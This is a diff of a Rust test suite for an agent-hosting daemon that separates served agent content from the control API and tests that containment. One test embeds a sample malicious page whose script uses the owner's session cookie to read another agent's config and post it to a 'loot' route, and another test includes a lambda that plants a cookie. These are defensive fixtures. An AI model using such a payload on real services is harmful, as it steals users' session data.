@@ -94,7 +94,12 @@ impl Got {
 }
 
 async fn request(h: &Harness, method: Method, path: &str, body: Option<(&str, Vec<u8>)>) -> Got {
-    let mut builder = public_client().request(method, format!("{}{path}", h.server.url()));
+    // Agent content is served on its own port, never the control port (issue 28 finding 3).
+    request_at(&h.server.serve_url(), method, path, body).await
+}
+
+async fn request_at(base: &str, method: Method, path: &str, body: Option<(&str, Vec<u8>)>) -> Got {
+    let mut builder = public_client().request(method, format!("{base}{path}"));
     builder = builder.header("x-test", "yes");
     if let Some((content_type, bytes)) = body {
         builder = builder.header("content-type", content_type).body(bytes);
@@ -329,16 +334,28 @@ async fn srv_02_reserved_segments_never_serve_routes_or_files() {
         &[("serving.public", json!({ "enabled": true }))],
     )
     .await;
-    let card = get(&h, "/agents/web/card").await;
+    // The mesh endpoints are the daemon's, on the control port where other runtimes dial them.
+    let control = h.server.url();
+    let card = request_at(&control, Method::GET, "/agents/web/card", None).await;
     assert_eq!(card.status, 200);
     assert_eq!(card.json()["handle"], "web", "the card, not the file");
-    let health = get(&h, "/agents/web/health").await;
+    let health = request_at(&control, Method::GET, "/agents/web/health", None).await;
     assert_eq!(health.json()["ok"], true);
-    let under = get(&h, "/agents/web/health/x.html").await;
-    assert_eq!(under.status, 404);
-    // Control routes under the agent still need the token.
-    let status = get(&h, "/agents/web/status").await;
+    // On the serving port the reserved names serve nothing of the agent's.
+    for path in [
+        "/agents/web/card",
+        "/agents/web/health",
+        "/agents/web/health/x.html",
+    ] {
+        let got = get(&h, path).await;
+        assert_eq!(got.status, 404, "{path}");
+        assert!(!got.text().contains("under health"), "{path}");
+        assert!(!got.text().contains("file named card"), "{path}");
+    }
+    // Control routes under the agent still need the token, and only the control port has them.
+    let status = request_at(&control, Method::GET, "/agents/web/status", None).await;
     assert_eq!(status.status, 401);
+    assert_eq!(get(&h, "/agents/web/status").await.status, 404);
     h.stop().await;
 }
 
@@ -440,7 +457,7 @@ async fn route_middleware_rejects_passes_changes_and_skips_unauthorized_files() 
     assert_eq!(refused.json()["error"], "no key");
 
     let passed = public_client()
-        .get(format!("{}/agents/web/guarded", h.server.url()))
+        .get(format!("{}/agents/web/guarded", h.server.serve_url()))
         .header("x-key", "open-sesame")
         .send()
         .await
@@ -500,7 +517,7 @@ async fn an_oversized_body_is_refused_before_it_is_read() {
     web_agent(&h, json!([route("POST", "/in", "echo")]), &[], &[]).await;
     let limit = h.server.daemon.serving().unwrap().limits().max_body_bytes;
     assert_eq!(
-        declared_length(h.server.addr, "/agents/web/in", limit + 1).await,
+        declared_length(h.server.serve_addr, "/agents/web/in", limit + 1).await,
         413
     );
     h.stop().await;
@@ -608,7 +625,7 @@ type Socket =
     tokio_tungstenite::WebSocketStream<tokio_tungstenite::MaybeTlsStream<tokio::net::TcpStream>>;
 
 async fn ws_open(h: &Harness, path: &str) -> Socket {
-    let url = format!("ws://{}{path}", h.server.addr);
+    let url = format!("ws://{}{path}", h.server.serve_addr);
     let (socket, _) = tokio::time::timeout(
         Duration::from_secs(60),
         tokio_tungstenite::connect_async(url),
@@ -704,7 +721,7 @@ async fn srv_04_srv_13_a_ws_route_lambda_gets_open_message_and_close_events() {
 
     // A plain GET to the WS path is no route; an upgrade elsewhere finds none.
     assert_eq!(get(&h, "/agents/web/live").await.status, 404);
-    let url = format!("ws://{}/agents/web/other", h.server.addr);
+    let url = format!("ws://{}/agents/web/other", h.server.serve_addr);
     assert!(tokio_tungstenite::connect_async(url).await.is_err());
     h.stop().await;
 }
@@ -764,6 +781,50 @@ async fn srv_31_srv_32_ws_send_and_ws_disconnect_reach_an_inbound_connection() {
     let closed = get(&h, &format!("/agents/web/push?id={id}&close=1")).await;
     assert_eq!(closed.json()["closed"]["ok"], true, "{}", closed.text());
     assert_eq!(ws_next(&mut socket).await, Err(1000));
+    h.stop().await;
+}
+
+/// The echo server of issue 29 finding 6: answers each message with `ws_send` on the
+/// connection whose event it handles, and returns nothing.
+const WS_ECHO: &str = r#"
+export async function on(e) {
+  if (e.type === "message") {
+    await adf.ws_send({ connection_id: e.connection_id, data: "echo: " + e.data });
+    await adf.ws_send({ connection_id: e.connection_id, data: "again: " + e.data });
+  }
+  return null;
+}
+"#;
+
+#[tokio::test]
+async fn srv_31_a_ws_lambda_answers_with_ws_send_on_its_own_connection() {
+    let h = Harness::start().await;
+    let path = agent_file(
+        h.dir.path(),
+        "web",
+        &[("lib/echo.ts", WS_ECHO)],
+        &[
+            ("handle", json!("web")),
+            (
+                "serving.api",
+                json!([{ "method": "WS", "path": "/echo", "lambda": "lib/echo.ts:on" }]),
+            ),
+            ("tools.ws_send.enabled", json!(true)),
+        ],
+    );
+    load(&h, &path).await;
+    let mut socket = ws_open(&h, "/agents/web/echo").await;
+    for word in ["one", "two"] {
+        socket.send(WsMessage::Text(word.into())).await.unwrap();
+        // Well below the lambda's 30 s limit: a handler stuck until its timeout fails here.
+        for expected in [format!("echo: {word}"), format!("again: {word}")] {
+            let got = tokio::time::timeout(Duration::from_secs(10), ws_next(&mut socket))
+                .await
+                .expect("the echo arrived while the handler ran");
+            assert_eq!(got, Ok(expected));
+        }
+    }
+    socket.close(None).await.unwrap();
     h.stop().await;
 }
 
@@ -1214,6 +1275,7 @@ async fn srv_06_srv_09_srv_10_srv_11_srv_12_the_card_lists_routes_overrides_and_
     with_identity(&h, &path).await;
     let agent = load(&h, &path).await;
     let port = h.server.addr.port();
+    let serve_port = h.server.serve_addr.port();
     let card = card_with_host(&h, &format!("localhost:{port}")).await;
     assert_eq!(
         card["api_routes"],
@@ -1228,9 +1290,10 @@ async fn srv_06_srv_09_srv_10_srv_11_srv_12_the_card_lists_routes_overrides_and_
         format!("http://localhost:{port}/agents/carded/card"),
         "endpoints follow the address the requester used"
     );
+    // WS routes are agent content: on the serving port, under the requester's host name.
     assert_eq!(
         card["endpoints"]["ws"],
-        format!("ws://localhost:{port}/agents/carded/live")
+        format!("ws://localhost:{serve_port}/agents/carded/live")
     );
     assert_eq!(card["attestations"], json!([]));
     adf_crypto::verify_card(&card).unwrap();
@@ -1411,7 +1474,7 @@ async fn srv_31_srv_32_srv_33_ws_tools_connect_list_send_and_disconnect_from_cod
     let got = public_client()
         .get(format!(
             "{}/agents/tooly/run?url={}",
-            h.server.url(),
+            h.server.serve_url(),
             adf_server::client::encode(&url)
         ))
         .send()
@@ -1458,9 +1521,10 @@ export async function main(event) {
 "#;
 
 /// A daemon over `dir` (its `home/` and `agents/`) listening on 127.0.0.1:`port`.
-async fn daemon_on(dir: tempfile::TempDir, port: u16) -> Harness {
+async fn daemon_on(dir: tempfile::TempDir, port: u16, serve_port: u16) -> Harness {
     let home = adf_runtime::home::RuntimeHome::at(dir.path().join("home"));
-    let front = adf_server::FrontDoor::for_home(&home, None).unwrap();
+    let mut front = adf_server::FrontDoor::for_home(&home, None).unwrap();
+    front.serve_port = Some(serve_port);
     let token = front.token.clone();
     let server =
         adf_server::RunningServer::start(adf_server::Daemon::new(home), "127.0.0.1", port, front)
@@ -1593,7 +1657,9 @@ async fn srv_34_msg_50_two_daemons_hold_an_agent_websocket_deliver_signed_and_en
     with_identity(&second, &b_path).await;
     let mut bee = load(&second, &b_path).await;
     let bee_did = bee.info().did.unwrap();
-    let port = second.server.addr.port();
+    // The WS route is agent content, on the serving port; a restart keeps both ports.
+    let control_port = second.server.addr.port();
+    let port = second.server.serve_addr.port();
     let ay = sender_agent(
         &first,
         "ay",
@@ -1671,7 +1737,7 @@ async fn srv_34_msg_50_two_daemons_hold_an_agent_websocket_deliver_signed_and_en
     })
     .await;
     // It starts again on the same port with the same file: the connection comes back.
-    second = daemon_on(dir, port).await;
+    second = daemon_on(dir, control_port, port).await;
     bee = load(&second, &b_path).await;
     common::wait_for("A's connection to come back", || async {
         let now = &first.server.daemon.outbound_connections(&ay.id)[0];
@@ -2068,7 +2134,7 @@ async fn hold_at_a_gate(
             .await
             .unwrap();
     });
-    let url = format!("{}/agents/web/hold?gate={gate_url}", h.server.url());
+    let url = format!("{}/agents/web/hold?gate={gate_url}", h.server.serve_url());
     let mut hold = tokio::spawn(async move { public_client().get(url).send().await?.text().await });
     tokio::select! {
         reached = held => reached.unwrap(),
@@ -2124,7 +2190,7 @@ async fn srv_05_read_only_requests_behind_a_busy_agent_commit_their_log_rows_tog
     let before = wal_commits(&agent.path);
     let queued: Vec<_> = (0..5)
         .map(|_| {
-            let url = format!("{}/agents/web/hello", h.server.url());
+            let url = format!("{}/agents/web/hello", h.server.serve_url());
             tokio::spawn(async move { public_client().get(url).send().await.unwrap().status() })
         })
         .collect();
@@ -2176,7 +2242,7 @@ async fn srv_05_requests_queued_behind_a_busy_agent_commit_as_one_batch_and_a_th
         "/numbered?n=3",
         "/numbered?n=4",
     ] {
-        let url = format!("{}/agents/web{path}", h.server.url());
+        let url = format!("{}/agents/web{path}", h.server.serve_url());
         queued.push(tokio::spawn(async move {
             let answer = public_client().get(url).send().await.unwrap();
             (answer.status().as_u16(), answer.text().await.unwrap())
@@ -2314,5 +2380,345 @@ async fn srv_05_trg_05_route_rows_nothing_reacts_to_take_no_sweep_and_a_later_on
         vec![format!("seen/{fresh}.md")],
         "only the row written after the trigger was added"
     );
+    h.stop().await;
+}
+
+// ---------------------------------------------------------------------------------------------
+// Containment (issue 28 findings 3, 4 and 7): agent content on an origin of its own, no
+// credentials for agent code, abandoned requests dropped.
+
+/// A page an agent serves that tries what issue 28 showed: read another agent through the
+/// control API with the owner's session. Its script never runs here; the test sends the
+/// requests a browser would send for it.
+const THIEF_PAGE: &str = r#"<!doctype html><script>
+fetch(location.origin.replace(/:\d+$/, ":" + (Number(location.port) - 1)) + "/agents/victim/config",
+      { credentials: "include" }).then(r => r.text()).then(t => fetch("/agents/web/loot", { method: "POST", body: t }));
+</script>"#;
+
+/// A browser session with `h`'s control API: the cookie `/login` sets.
+async fn session_cookie(h: &Harness) -> String {
+    let client = reqwest::Client::builder()
+        .no_proxy()
+        .redirect(reqwest::redirect::Policy::none())
+        .build()
+        .unwrap();
+    let login = client
+        .get(h.server.login_url())
+        .send()
+        .await
+        .unwrap();
+    let cookie = login
+        .headers()
+        .get("set-cookie")
+        .expect("the login sets a cookie")
+        .to_str()
+        .unwrap();
+    cookie.split(';').next().unwrap().to_owned()
+}
+
+fn csp_of(got: &Got) -> Vec<String> {
+    got.headers
+        .get_all("content-security-policy")
+        .iter()
+        .map(|v| v.to_str().unwrap().to_owned())
+        .collect()
+}
+
+/// A request to the control API as a browser sends it for a page: `origin` (when given),
+/// `Sec-Fetch-Site` and the session cookie.
+async fn as_browser(
+    h: &Harness,
+    method: Method,
+    path: &str,
+    origin: Option<&str>,
+    cookie: &str,
+    body: Option<(&str, &str)>,
+) -> (u16, String) {
+    let mut builder = public_client()
+        .request(method, format!("{}{path}", h.server.url()))
+        .header("cookie", cookie);
+    if let Some(origin) = origin {
+        builder = builder
+            .header("origin", origin)
+            .header("sec-fetch-site", "same-site");
+    }
+    if let Some((content_type, text)) = body {
+        builder = builder
+            .header("content-type", content_type)
+            .body(text.to_owned());
+    }
+    let response = tokio::time::timeout(Duration::from_secs(30), builder.send())
+        .await
+        .unwrap()
+        .unwrap();
+    (response.status().as_u16(), response.text().await.unwrap())
+}
+
+#[tokio::test]
+async fn srv_05_agent_content_has_its_own_origin_and_its_pages_cannot_reach_the_control_api() {
+    let h = Harness::start().await;
+    let web = web_agent(
+        &h,
+        json!([route("GET", "/page", "page")]),
+        &[("public/index.html", THIEF_PAGE)],
+        &[("serving.public", json!({ "enabled": true }))],
+    )
+    .await;
+    let victim_path = agent_file(
+        h.dir.path(),
+        "victim",
+        &[("notes/secret.md", "the victim's secret")],
+        &[
+            ("handle", json!("victim")),
+            ("description", json!("victim-config-marker")),
+        ],
+    );
+    let victim = load(&h, &victim_path).await;
+    assert_ne!(h.server.serve_addr.port(), h.server.addr.port());
+    assert_eq!(h.server.serve_addr.ip(), h.server.addr.ip());
+
+    // The page and the HTML route are served on the serving port, sandboxed.
+    let page = get(&h, "/agents/web/").await;
+    assert_eq!(page.status, 200);
+    assert!(page.text().contains("/agents/victim/config"));
+    let route_page = get(&h, "/agents/web/page").await;
+    assert_eq!(route_page.content_type, "text/html");
+    for got in [&page, &route_page] {
+        let csp = csp_of(got);
+        assert!(
+            csp.iter()
+                .any(|p| p.split_whitespace().next() == Some("sandbox")),
+            "{csp:?}"
+        );
+        assert!(
+            !csp.iter().any(|p| p.contains("allow-same-origin")),
+            "{csp:?}"
+        );
+    }
+
+    // The control port serves no agent content: it sends the browser to the serving port.
+    let control = reqwest::Client::builder()
+        .no_proxy()
+        .redirect(reqwest::redirect::Policy::none())
+        .build()
+        .unwrap();
+    let moved = control
+        .get(format!("{}/agents/web/?x=1", h.server.url()))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(moved.status().as_u16(), 307);
+    assert_eq!(
+        moved.headers()["location"].to_str().unwrap(),
+        format!("{}/agents/web/?x=1", h.server.serve_url())
+    );
+    assert!(!moved.text().await.unwrap().contains("<script>"));
+
+    // The owner's session works on the control port as the Studio uses it...
+    let cookie = session_cookie(&h).await;
+    let config_path = format!("/agents/{}/config", victim.id);
+    let (status, body) = as_browser(&h, Method::GET, &config_path, None, &cookie, None).await;
+    assert_eq!(status, 200, "{body}");
+    assert!(body.contains("victim-config-marker"));
+    // ...and every request the page can make with it is refused: from the serving origin
+    // (the page opted out of the sandbox) or from the opaque origin the sandbox gives it.
+    let serving_origin = h.server.serve_url();
+    for origin in [serving_origin.as_str(), "null"] {
+        let (status, body) =
+            as_browser(&h, Method::GET, &config_path, Some(origin), &cookie, None).await;
+        assert_eq!(status, 403, "read from {origin}: {body}");
+        assert!(!body.contains("victim-config-marker"));
+        let (status, _) = as_browser(
+            &h,
+            Method::PUT,
+            &config_path,
+            Some(origin),
+            &cookie,
+            Some((
+                "application/json",
+                r#"{"stream_bind":{"host_process_bind":true}}"#,
+            )),
+        )
+        .await;
+        assert_eq!(status, 403, "write from {origin}");
+        let (status, _) = as_browser(
+            &h,
+            Method::POST,
+            &format!("/agents/{}/files", victim.id),
+            Some(origin),
+            &cookie,
+            Some(("text/plain", "path=x")),
+        )
+        .await;
+        assert_eq!(status, 403, "form post from {origin}");
+    }
+    // The serving port answers nothing of the control API or the Studio, cookie or not.
+    for path in [config_path.as_str(), "/", "/agents", "/runtime"] {
+        let response = public_client()
+            .get(format!("{}{path}", h.server.serve_url()))
+            .header("cookie", &cookie)
+            .header("authorization", format!("Bearer {}", h.token))
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(response.status().as_u16(), 404, "{path}");
+        assert!(
+            !response
+                .text()
+                .await
+                .unwrap()
+                .contains("victim-config-marker")
+        );
+    }
+    // Where agent content is served, as the runtime reports it.
+    let runtime = h.client.get("/runtime").await.unwrap();
+    assert_eq!(runtime["network"]["host"]["serve"], h.server.serve_url());
+
+    // The owner may let one agent's pages run in the serving origin (never the Studio's).
+    let path = format!("/agents/{}/config", web.id);
+    let mut config = h.client.get(&path).await.unwrap()["config"].clone();
+    config["serving"]["csp_sandbox"] = json!(false);
+    h.client
+        .call(Method::PUT, &path, Some(&config))
+        .await
+        .unwrap();
+    let page = get(&h, "/agents/web/").await;
+    assert_eq!(page.status, 200);
+    assert!(csp_of(&page).is_empty(), "{:?}", csp_of(&page));
+    h.stop().await;
+}
+
+const CREDENTIALS_ROUTES: &str = r#"
+export async function echo(req) {
+  return { status: 200, body: req };
+}
+export async function sets(req) {
+  return { status: 200, headers: { "set-cookie": "adf_session=planted; Path=/", "x-kept": "yes" }, body: "ok" };
+}
+"#;
+
+#[tokio::test]
+async fn srv_05_route_lambdas_never_see_the_owners_cookie_or_token_and_cannot_set_cookies() {
+    let h = Harness::start().await;
+    let path = agent_file(
+        h.dir.path(),
+        "web",
+        &[("lib/creds.ts", CREDENTIALS_ROUTES)],
+        &[
+            ("handle", json!("web")),
+            (
+                "serving.api",
+                json!([
+                    { "method": "GET", "path": "/echo", "lambda": "lib/creds.ts:echo" },
+                    { "method": "GET", "path": "/sets", "lambda": "lib/creds.ts:sets" }
+                ]),
+            ),
+        ],
+    );
+    load(&h, &path).await;
+    let cookie = session_cookie(&h).await;
+    let seen = public_client()
+        .get(format!("{}/agents/web/echo", h.server.serve_url()))
+        .header("cookie", format!("{cookie}; theme=dark"))
+        .header("authorization", format!("Bearer {}", h.token))
+        .header("proxy-authorization", "Basic c2VjcmV0")
+        .header("x-visible", "kept")
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(seen.status().as_u16(), 200);
+    let text = seen.text().await.unwrap();
+    let body: Value = serde_json::from_str(&text).unwrap();
+    let headers = body["headers"].as_object().unwrap();
+    assert_eq!(headers["x-visible"], "kept", "{text}");
+    for name in ["cookie", "authorization", "proxy-authorization"] {
+        assert!(
+            !headers.contains_key(name),
+            "{name} reached the lambda: {text}"
+        );
+    }
+    assert!(!text.contains(&h.token), "the token reached the lambda");
+    assert!(!text.contains(cookie.split('=').nth(1).unwrap()));
+
+    let set = get(&h, "/agents/web/sets").await;
+    assert_eq!(set.status, 200);
+    assert_eq!(set.headers["x-kept"], "yes");
+    assert!(
+        set.headers.get("set-cookie").is_none(),
+        "an agent set a cookie"
+    );
+    h.stop().await;
+}
+
+/// A request whose client leaves: written on a raw connection the test drops later.
+async fn leaving_request(addr: std::net::SocketAddr, path: &str) -> tokio::net::TcpStream {
+    let mut stream = tokio::net::TcpStream::connect(addr).await.unwrap();
+    let head = format!("GET {path} HTTP/1.1\r\nHost: {addr}\r\n\r\n");
+    stream.write_all(head.as_bytes()).await.unwrap();
+    stream
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn srv_05_requests_whose_clients_left_are_dropped_and_a_spinning_lambda_is_interrupted() {
+    let h = Harness::start().await;
+    let web = web_agent(
+        &h,
+        json!([
+            route("GET", "/spins", "spins"),
+            route("GET", "/hello", "hello")
+        ]),
+        &[],
+        &[],
+    )
+    .await;
+    let other_path = agent_file(
+        h.dir.path(),
+        "other",
+        &[("lib/routes.ts", ROUTES)],
+        &[
+            ("handle", json!("other")),
+            ("serving.api", json!([route("GET", "/hello", "hello")])),
+        ],
+    );
+    load(&h, &other_path).await;
+    let serving = h.server.daemon.serving().unwrap();
+    let slots = serving.limits().max_in_flight_per_agent;
+    let lambda_timeout = serving.limits().lambda_timeout;
+
+    // Every slot of the agent taken by a spinning request: one runs, the rest queue.
+    let mut leaving = Vec::new();
+    for _ in 0..slots {
+        leaving.push(leaving_request(h.server.serve_addr, "/agents/web/spins").await);
+    }
+    common::wait_for("every spinning request to be in", || async {
+        serving.waiting_requests(&web.id) == slots - 1
+    })
+    .await;
+    let busy = get(&h, "/agents/web/hello").await;
+    assert_eq!(busy.status, 503, "{}", busy.text());
+    assert_eq!(busy.json()["code"], "AGENT_BUSY");
+    // Other agents are unaffected meanwhile.
+    let other = get(&h, "/agents/other/hello").await;
+    assert_eq!(other.status, 200, "{}", other.text());
+
+    // The clients leave: the agent answers again long before one lambda's time limit.
+    drop(leaving);
+    let left = std::time::Instant::now();
+    let bound = lambda_timeout / 3;
+    loop {
+        let fresh = get(&h, "/agents/web/hello").await;
+        if fresh.status == 200 {
+            assert_eq!(fresh.text(), "hello from /hello");
+            break;
+        }
+        assert_eq!(fresh.json()["code"], "AGENT_BUSY", "{}", fresh.text());
+        assert!(
+            left.elapsed() < bound,
+            "the agent still busy {} ms after its clients left",
+            left.elapsed().as_millis()
+        );
+        tokio::time::sleep(Duration::from_millis(20)).await;
+    }
+    assert_eq!(serving.waiting_requests(&web.id), 0);
     h.stop().await;
 }
